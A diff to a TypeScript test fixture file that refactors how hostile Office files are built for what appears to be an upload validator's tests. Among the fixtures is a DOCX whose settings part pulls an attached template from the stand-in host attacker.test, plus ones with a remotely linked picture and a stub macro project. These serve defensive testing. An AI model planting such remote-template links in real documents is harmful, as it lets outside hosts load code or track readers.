@@ -5,6 +5,8 @@ import { cell, docxOf, docxWith, goodDocx, goodWorkbook, sheetOf } from './offic
 import { times } from './pdf-parts.js';
 
 const MEGABYTE = 2 ** 20;
+const BASE = 'http://schemas.openxmlformats.org';
+const RELATION = `${BASE}/officeDocument/2006/relationships`;
 
 /** Letters that hardly pack, so that a file is not refused for how far it unpacks. */
 const salt = (index: number): string => (Math.imul(index + 1, 0x9e37_79b1) >>> 0).toString(36);
@@ -100,12 +102,13 @@ const MARKUP: readonly HostileFile[] = [
   hostileFile('a DOCX that fetches its template', () =>
     docxWith({
       'word/_rels/settings.xml.rels':
-        '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://attacker.test/t.dotm" TargetMode="External"/></Relationships>',
+        `<Relationships xmlns="${BASE}/package/2006/relationships"><Relationship Id="rId1" Type="${RELATION}/attachedTemplate" ` +
+        'Target="http://attacker.test/t.dotm" TargetMode="External"/></Relationships>',
     }),
   ),
   hostileFile('a DOCX with a picture on another machine', () =>
     docxOf(
-      '<w:p><w:r><w:drawing><a:blip xmlns:a="http://schemas.openxmlformats.org/drawingml/2006/main" xmlns:r="http://schemas.openxmlformats.org/officeDocument/2006/relationships" r:link="rId9"/></w:drawing></w:r></w:p>',
+      `<w:p><w:r><w:drawing><a:blip xmlns:a="${BASE}/drawingml/2006/main" xmlns:r="${RELATION}" r:link="rId9"/></w:drawing></w:r></w:p>`,
     ),
   ),
   hostileFile('a DOCX with macros', () => docxWith({ 'word/vbaProject.bin': Buffer.from('d0cf11e0a1b11ae1', 'hex') })),
@@ -131,16 +134,22 @@ const MARKUP: readonly HostileFile[] = [
   ),
 ];
 
+/** A part that relates a file to one other. */
+function relationship(kind: string, target: string): string {
+  return `<Relationships xmlns="${BASE}/package/2006/relationships"><Relationship Id="rId1" Type="${RELATION}/${kind}" Target="${target}"/></Relationships>`;
+}
+
 /** The parts of a good workbook, for replacing some of them. */
 function xlsxParts(): Record<string, string> {
-  const base = 'http://schemas.openxmlformats.org';
   const type = 'application/vnd.openxmlformats-officedocument.spreadsheetml';
+  const part = (name: string, kind: string) => `<Override PartName="/xl/${name}.xml" ContentType="${type}.${kind}+xml"/>`;
+  const parts = [part('workbook', 'sheet.main'), part('worksheets/sheet1', 'worksheet'), part('sharedStrings', 'sharedStrings')];
   return {
-    '[Content_Types].xml': `<Types xmlns="${base}/package/2006/content-types"><Override PartName="/xl/workbook.xml" ContentType="${type}.sheet.main+xml"/><Override PartName="/xl/worksheets/sheet1.xml" ContentType="${type}.worksheet+xml"/><Override PartName="/xl/sharedStrings.xml" ContentType="${type}.sharedStrings+xml"/></Types>`,
-    '_rels/.rels': `<Relationships xmlns="${base}/package/2006/relationships"><Relationship Id="rId1" Type="${base}/officeDocument/2006/relationships/officeDocument" Target="xl/workbook.xml"/></Relationships>`,
-    'xl/workbook.xml': `<workbook xmlns="${base}/spreadsheetml/2006/main" xmlns:r="${base}/officeDocument/2006/relationships"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>`,
-    'xl/_rels/workbook.xml.rels': `<Relationships xmlns="${base}/package/2006/relationships"><Relationship Id="rId1" Type="${base}/officeDocument/2006/relationships/worksheet" Target="worksheets/sheet1.xml"/></Relationships>`,
-    'xl/worksheets/sheet1.xml': `<worksheet xmlns="${base}/spreadsheetml/2006/main"><sheetData><row r="1">${cell('A1', 'x')}</row></sheetData></worksheet>`,
+    '[Content_Types].xml': `<Types xmlns="${BASE}/package/2006/content-types">${parts.join('')}</Types>`,
+    '_rels/.rels': relationship('officeDocument', 'xl/workbook.xml'),
+    'xl/workbook.xml': `<workbook xmlns="${BASE}/spreadsheetml/2006/main" xmlns:r="${RELATION}"><sheets><sheet name="A" sheetId="1" r:id="rId1"/></sheets></workbook>`,
+    'xl/_rels/workbook.xml.rels': relationship('worksheet', 'worksheets/sheet1.xml'),
+    'xl/worksheets/sheet1.xml': `<worksheet xmlns="${BASE}/spreadsheetml/2006/main"><sheetData><row r="1">${cell('A1', 'x')}</row></sheetData></worksheet>`,
   };
 }
 
